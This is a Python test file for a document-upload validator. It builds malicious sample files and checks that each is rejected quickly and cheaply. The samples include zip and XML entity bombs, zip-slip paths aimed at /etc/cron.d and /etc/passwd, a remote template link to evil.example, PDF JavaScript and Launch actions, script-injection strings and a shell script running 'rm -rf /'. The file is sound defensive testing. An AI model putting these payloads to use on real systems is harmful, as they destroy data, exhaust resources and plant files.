"""Files that somebody made to do harm, or to make a machine work itself to death, are refused."""

from __future__ import annotations

import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest

from ldtrack.files.domain import kind_of, problem_of
from tests.unit.files.test_kinds import DOCX, ODT, archive

LARGE = b"\0" * 20_000_000
OTHERS = "It holds other archives or programs."
TOO_LARGE = "It would be far too large when it is opened."
NO_KIND = "no kind"


def png(width: int, height: int, *chunks: tuple[bytes, bytes], after: bytes = b"") -> bytes:
    """A picture that says how large it is."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), *chunks, (b"IEND", b""))
    body = b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + body + after


def jpeg(width: int, height: int) -> bytes:
    """The beginning of a photo."""
    return b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width)


def overlapping() -> bytes:
    """A document whose list names the same packed bytes a hundred times, each by another name."""
    one = archive(DOCX | {"a.bin": bytes(1_000_000)})
    begins, ends = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    last = one[one.rindex(b"PK\x01\x02") : ends]
    more = b"".join(last.replace(b"a.bin", b"%05d" % n) for n in range(100))
    listed = one[begins:ends] + more
    n_parts = len(DOCX) + 101
    return (
        one[:begins]
        + listed
        + struct.pack("<4s4HIIH", b"PK\x05\x06", 0, 0, n_parts, n_parts, len(listed), begins, 0)
    )


def sealed() -> bytes:
    """An archive that says it has a password."""
    raw = bytearray(archive(DOCX))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = raw.find(mark)
        while start >= 0:
            raw[start + at] |= 1
            start = raw.find(mark, start + 4)
    return bytes(raw)


def nested(deep: int) -> bytes:
    """Documents in documents, as deep as that."""
    raw = archive(DOCX)
    for _ in range(deep):
        raw = archive(DOCX | {"word/embeddings/sheet.xlsx": raw}, packed=zipfile.ZIP_STORED)
    return raw


def billion_laughs() -> bytes:
    """Ten names, each of which stands for ten of the one before."""
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{names}]><d>&l9;</d>'
    return text.encode()


def template(target: str) -> bytes:
    """Words about a template that is fetched when the document is opened."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    return f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/>'.encode()


RELS = "word/_rels/settings.xml.rels"
EVIL: dict[str, tuple[Callable[[], bytes], str]] = {
    "a bomb": (lambda: archive(DOCX | {"word/media/x.bin": LARGE}), TOO_LARGE),
    "a bomb within a document": (
        lambda: archive(
            DOCX | {"word/embeddings/x.xlsx": archive(DOCX | {"xl/x.bin": LARGE})},
        ),
        TOO_LARGE,
    ),
    "a bomb of text": (lambda: archive(DOCX | {"word/styles.xml": b"<a/>" * 5_000_000}), TOO_LARGE),
    "an archive whose parts overlap": (overlapping, TOO_LARGE),
    "documents three deep": (lambda: nested(3), OTHERS),
    "an archive under another name": (
        lambda: archive(DOCX | {"word/media/picture.png": b"7z\xbc\xaf\x27\x1c" + bytes(90)}),
        OTHERS,
    ),
    "a program under another name": (
        lambda: archive(DOCX | {"word/media/picture.png": b"MZ\x90\x00"}),
        OTHERS,
    ),
    "an older document with whatever is in it": (
        lambda: archive(
            DOCX | {"word/embeddings/ole.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90)}
        ),
        OTHERS,
    ),
    "laughs by the billion": (
        lambda: archive(DOCX | {"word/footer.xml": billion_laughs()}),
        "It holds names of its own. Please save it as a PDF.",
    ),
    "laughs in wider letters": (
        lambda: archive(DOCX | {"word/footer.xml": billion_laughs().decode().encode("utf-16")}),
        "It holds names of its own. Please save it as a PDF.",
    ),
    "macros by their part": (
        lambda: archive(DOCX | {"word/vbaProject.bin": b"x"}),
        "It holds macros. Please save it without them, or as a PDF.",
    ),
    "macros under another name": (
        lambda: archive(
            DOCX
            | {"[Content_Types].xml": b'<Types ContentType="ms-word.document.macroEnabled.main"/>'}
        ),
        "It holds macros. Please save it as a PDF.",
    ),
    "macros of an open document": (
        lambda: archive(ODT | {"Scripts/python/a.py": b"x"}),
        "It holds macros. Please save it without them, or as a PDF.",
    ),
    "a template from elsewhere": (
        lambda: archive(DOCX | {RELS: template("http://evil.example/t.dotm")}),
        "It holds a template from elsewhere. Please save it as a PDF.",
    ),
    "a template on another machine": (
        lambda: archive(DOCX | {RELS: template("\\\\evil\\t.dotm")}),
        "It holds a template from elsewhere. Please save it as a PDF.",
    ),
    "a way out of the folder": (
        lambda: archive(DOCX | {"word/../../../etc/cron.d/x": b"x"}),
        "One of its parts would leave its folder.",
    ),
    "a part from the root": (
        lambda: archive(DOCX | {"/etc/passwd": b"x"}),
        "One of its parts would leave its folder.",
    ),
    "parts without end": (
        lambda: archive(DOCX | {f"p{n}": b"" for n in range(60_000)}),
        NO_KIND,
    ),
    "packed in a rare way": (
        lambda: archive(DOCX, packed=zipfile.ZIP_LZMA),
        "It is packed in a way that documents are not.",
    ),
    "a password": (
        sealed,
        "It cannot be read. Is it protected by a password, or damaged?",
    ),
    "a picture of ten billion dots": (
        lambda: png(100_000, 100_000),
        "This picture has more than 60 million dots.",
    ),
    "a picture of no dots": (lambda: png(0, 10), "This picture is damaged."),
    "a picture with a page after it": (
        lambda: png(1, 1, after=b"<script>alert(1)</script>"),
        "This picture goes on after its end.",
    ),
    "a picture with a novel in it": (
        lambda: png(1, 1, (b"zTXt", b"a\0\0" + bytes(200_000))),
        "This picture holds too much text.",
    ),
    "a photo of four billion dots": (
        lambda: jpeg(65_535, 65_535),
        "This picture has more than 60 million dots.",
    ),
    "a picture that is an archive, too": (
        lambda: png(1, 1) + archive({"a.jar": b"x"}),
        "It is two kinds of file at once.",
    ),
    "paper with a script": (
        lambda: b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>",
        "It holds a script or other files. Please print it to a new PDF.",
    ),
    "paper with a script that is spelt oddly": (
        lambda: b"%PDF-1.7\n1 0 obj<</S/J#61vaScr#69pt/JS(app.alert(1))>>",
        "It holds a script or other files. Please print it to a new PDF.",
    ),
    "paper that starts a program": (
        lambda: b"%PDF-1.7\n1 0 obj<</S/Launch/F(calc.exe)>>",
        "It holds a script or other files. Please print it to a new PDF.",
    ),
    "a page": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", NO_KIND),
    "a drawing with a script": (lambda: b"<svg onload='alert(1)'/>", NO_KIND),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", NO_KIND),
    "a page before the paper": (lambda: b"<script>alert(1)</script>%PDF-1.7", NO_KIND),
    "an archive of anything": (lambda: archive({"a.txt": b"x"}), NO_KIND),
}
MOST_SECONDS = 5
MOST_MEMORY = 200_000_000


def said_of(raw: bytes) -> str | None:
    """What somebody who hands it in is told."""
    kind = kind_of(raw)
    return NO_KIND if kind is None else problem_of(raw, kind)


@pytest.mark.parametrize("name", EVIL)
def test_it_is_refused_soon_and_in_little_room(name: str) -> None:
    make, expected = EVIL[name]
    raw = make()
    began = time.monotonic()
    assert said_of(raw) == expected
    assert time.monotonic() - began < MOST_SECONDS
    tracemalloc.start()
    said_of(raw)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < MOST_MEMORY


@pytest.mark.parametrize(
    "raw",
    [
        archive(DOCX | {"word/embeddings/sheet.xlsx": archive(DOCX)}),
        archive(DOCX | {RELS: template("file:///C:/Users/zoe/Templates/house.dotx")}),
        archive(DOCX | {"word/document.xml": b'<w a="&amp;"/>' * 9}),
        archive(ODT),
        png(4_000, 3_000, (b"tEXt", b"Author\0Zoe")),
        jpeg(8_000, 6_000),
        b"%PDF-1.7\n1 0 obj<</S/URI/URI(https://example.org)>>",
        b"%PDF-1.7\n/LaunchedIn2024 /JavaScriptedBy",
    ],
)
def test_what_people_really_hand_in_is_taken(raw: bytes) -> None:
    kind = kind_of(raw)
    assert kind is not None
    assert problem_of(raw, kind) is None


@pytest.mark.parametrize("cut", [1, 9, 20, 28])
def test_a_picture_that_ends_early_is_damaged(cut: int) -> None:
    raw = png(10, 10)
    kind = kind_of(raw[:-cut])
    assert kind is not None
    assert problem_of(raw[:-cut], kind) == "This picture is damaged."
